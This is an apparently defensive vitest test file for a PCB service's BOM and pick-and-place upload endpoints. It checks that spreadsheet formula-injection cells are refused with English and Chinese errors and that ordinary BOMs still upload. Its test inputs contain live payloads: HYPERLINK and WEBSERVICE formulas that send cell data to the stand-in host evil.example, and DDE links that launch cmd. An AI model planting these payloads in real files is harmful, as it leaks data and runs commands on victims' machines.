import { designJobPaths } from '@boardforge/contracts/design-job-views.ts';
import type * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoPassword, demoPhoneOfRole } from '../src/db/seed.ts';
import { buildWorkbook } from './fixtures/hostile-files.ts';
import { createDataDir, listFolder, postFile } from './fixtures/upload-requests.ts';
import { createTestApp, createTestCustomer, logIn, type TestApp, testCustomer } from './helpers/test-app.ts';

// Formula injection in an uploaded BOM or pick-and-place list is refused (docs/api.md "Formula cells"); the fixtures'
// real BOMs, with their SUM and IF formulas, still upload (bom-upload.test.ts reads every one of them).
let testApp: TestApp;
let customer: string;
const dataDir = createDataDir();

beforeAll(async () => {
  testApp = await createTestApp({ env: { DATA_DIR: dataDir.dir } });
  await createTestCustomer(testApp);
  customer = await logIn(testApp.app, { ...testCustomer, loginType: 'client' });
});
afterAll(async () => {
  await testApp?.close();
  dataDir.remove();
});

const upload = (url: string, filename: string, content: string | Uint8Array, language?: string) =>
  postFile(testApp.app, url, { filename, content }, { cookie: customer, ...(language ? { language } : {}) });
const uploadBom = (filename: string, content: string | Uint8Array, language?: string) =>
  upload('/api/file/uploadBom', filename, content, language);
const download = (fileId: string, cookie: string) =>
  testApp.app.inject({ method: 'GET', url: `/api/file/download?fileId=${fileId}`, headers: { cookie } });

/** An xlsx of one sheet "BOM": a heading row, then the line's cells. */
const workbookWith = (line: Array<string | number | XLSX.CellObject>) =>
  buildWorkbook([['Designator', 'Qty', 'MPN', 'Manufacturer', 'Description'], line]);

describe('POST /api/file/uploadBom refuses formula injection, naming the file, the cell and the rule', () => {
  it('a csv cell starting with = (400 file.formulaCell, in English and Chinese), keeping nothing', async () => {
    const before = listFolder(dataDir.dir);
    const csv = 'Designator,Qty,MPN\nR1,1,RC0603\nR2,1,"=HYPERLINK(""http://evil.example/?x=""&A1,""RC0603"")"\n';
    const english = await uploadBom('evil.csv', csv);
    expect(english.statusCode).toBe(400);
    expect(english.json()).toEqual({
      code: '400',
      msg:
        '"evil.csv" was refused: cell C3 (row 3, column C) holds "=HYPERLINK("http://evil.example/?x="&A1,…", ' +
        'a formula a spreadsheet would run (text starting with =, or with + - @ and a function call, | or !). ' +
        'Type the value instead and upload again.',
      data: { reason: 'file.formulaCell' },
    });
    const chinese = await uploadBom('evil.csv', csv, 'zh-CN');
    expect(chinese.statusCode).toBe(400);
    expect(chinese.json().data).toEqual({ reason: 'file.formulaCell' });
    expect(chinese.json().msg).toBe(
      '“evil.csv”已拒绝：单元格 C3（第 3 行，第 C 列）的内容“=HYPERLINK("http://evil.example/?x="&A1,…”' +
        '会被表格软件当作公式执行（以 = 开头，或以 + - @ 开头且含函数调用、| 或 !）。请改为填写数值后重新上传。',
    );
    expect(listFolder(dataDir.dir)).toEqual(before); // nothing of a refused upload is kept
  });

  it.each([
    ['a DDE link after a minus', "-2+3+cmd|' /C calc'!A0", 'B2'],
    ['a function call after @', '@SUM(1+9)', 'B2'],
    ['a formula after a tab', '\t=1+1', 'B2'],
  ])('a csv cell holding %s, in any column (even one no field maps)', async (_case, text, cell) => {
    const response = await uploadBom('bom.csv', `Designator,Notes\nR1,"${text}"\n`);
    expect(response.statusCode).toBe(400);
    expect(response.json().data.reason).toBe('file.formulaCell');
    expect(response.json().msg).toContain(`cell ${cell} (row 2, column B)`);
  });

  it.each([
    ['a text cell starting with =', { t: 's', v: '=cmd' } as XLSX.CellObject, '=cmd'],
    [
      'a HYPERLINK formula whose cached text looks harmless',
      { t: 's', f: 'HYPERLINK("http://evil.example/?leak="&A2,"RC0603")', v: 'RC0603' } as XLSX.CellObject,
      '=HYPERLINK("http://evil.example/?leak="&…',
    ],
    [
      'a WEBSERVICE formula',
      { t: 's', f: '_xlfn.WEBSERVICE("http://evil.example/"&A2)', v: '' } as XLSX.CellObject,
      '=WEBSERVICE("http://evil.example/"&A2)',
    ],
    ['a DDE link', { t: 'n', f: "cmd|' /C calc'!A0", v: 0 } as XLSX.CellObject, "=cmd|' /C calc'!A0"],
  ])('an xlsx holding %s, naming the sheet (both languages)', async (_case, cell, quoted) => {
    const bytes = workbookWith(['R1', 1, cell, 'Yageo', 'resistor']);
    const english = await uploadBom('evil.xlsx', bytes);
    expect(english.statusCode).toBe(400);
    expect(english.json().data).toEqual({ reason: 'file.formulaCell' });
    expect(english.json().msg).toContain(
      `"evil.xlsx" was refused: cell C2 (row 2, column C) of sheet "BOM" holds "${quoted}"`,
    );
    const chinese = await uploadBom('evil.xlsx', bytes, 'zh-CN');
    expect(chinese.json().msg).toContain(
      `“evil.xlsx”已拒绝：工作表“BOM”的单元格 C2（第 2 行，第 C 列）的内容“${quoted}”`,
    );
  });

  it('refuses a pick-and-place list by the same rule', async () => {
    const response = await upload(
      '/api/file/uploadCpl',
      'cpl.csv',
      'Designator,Mid X,Mid Y,Layer,Rotation\nR1,1,2,Top,0\nR2,"=WEBSERVICE(""http://evil.example"")",2,Top,0\n',
      'zh-CN',
    );
    expect(response.statusCode).toBe(400);
    expect(response.json().data.reason).toBe('file.formulaCell');
    expect(response.json().msg).toContain('“cpl.csv”已拒绝：单元格 B3（第 3 行，第 B 列）');
  });
});

describe("a design job's .csv (kept as it is, downloaded by staff)", () => {
  it('is refused by the same rule, keeping nothing; a clean one is taken', async () => {
    const post = (content: string) =>
      postFile(
        testApp.app,
        designJobPaths.uploadFile,
        { filename: 'design-bom.csv', content },
        { cookie: customer, fields: { kind: 'bom' }, language: 'zh-CN' },
      );
    const before = listFolder(dataDir.dir);
    const refused = await post('Ref,Value\nR1,"-1+cmd|\' /C calc\'!A0"\n');
    expect(refused.statusCode).toBe(400);
    expect(refused.json().data.reason).toBe('file.formulaCell');
    expect(refused.json().msg).toContain('“design-bom.csv”已拒绝：单元格 B2（第 2 行，第 B 列）');
    expect(listFolder(dataDir.dir)).toEqual(before);
    const clean = await post('Ref,Value\nR1,-5\n');
    expect(clean.statusCode, clean.body).toBe(200);
  });
});

describe('POST /api/file/uploadBom keeps what real BOMs hold', () => {
  it('signed values, phone numbers, temperature ranges and dashes; the download is the file byte for byte', async () => {
    const csv =
      'Designator,Qty,MPN,Value,Description,Contact\n' +
      'C1,1,GRM188,-5,-40~85℃,+86 138 0013 8000\n' +
      'D1,1,LED,+5V,-40°C to +85°C (industrial),-\n' +
      'R1,1,RC0603,10k = 1%,@25V,--\n';
    const response = await uploadBom('signed.csv', csv);
    expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
    const lines = response.json().data.dataList;
    expect(lines.map((line: { value: string; description: string }) => [line.value, line.description])).toEqual([
      ['-5', '-40~85℃'],
      ['+5V', '-40°C to +85°C (industrial)'],
      ['10k = 1%', '@25V'],
    ]);
    expect(lines.every((line: { formulaFields: string[] }) => line.formulaFields.length === 0)).toBe(true);
    const staff = await logIn(testApp.app, {
      phone: demoPhoneOfRole('12'),
      password: demoPassword,
      loginType: 'manage',
    });
    const asStaff = await download(response.json().data.fileId, staff);
    expect(asStaff.statusCode).toBe(200);
    expect(asStaff.body).toBe(csv);
  });

  it("a workbook's own SUM and IF formulas: their cached values, never evaluated, flagged in formulaFields", async () => {
    const bytes = buildWorkbook([
      ['Designator', 'Qty', 'MPN', 'Value', 'Cost'],
      ['R1', { t: 'n', f: 'SUM(1,2)', v: 99 }, 'ABC-1', { t: 's', f: 'CONCAT("1","0k")', v: 'cached text' }, 1],
      ['R2', 3, 'ABC-2', '10k', { t: 'n', f: 'IF($B$3*B3<10,B3*0.1,B3*0.05)', v: 0.3 }],
    ]);
    const response = await uploadBom('computed.xlsx', bytes);
    expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
    const lines = response.json().data.dataList;
    expect(lines[0]).toMatchObject({ quantity: 99, value: 'cached text', formulaFields: ['quantity', 'value'] });
    expect(lines[1]).toMatchObject({ quantity: 3, formulaFields: [] });
    const downloaded = await download(response.json().data.fileId, customer);
    expect(new Uint8Array(downloaded.rawPayload)).toEqual(bytes);
  });
});
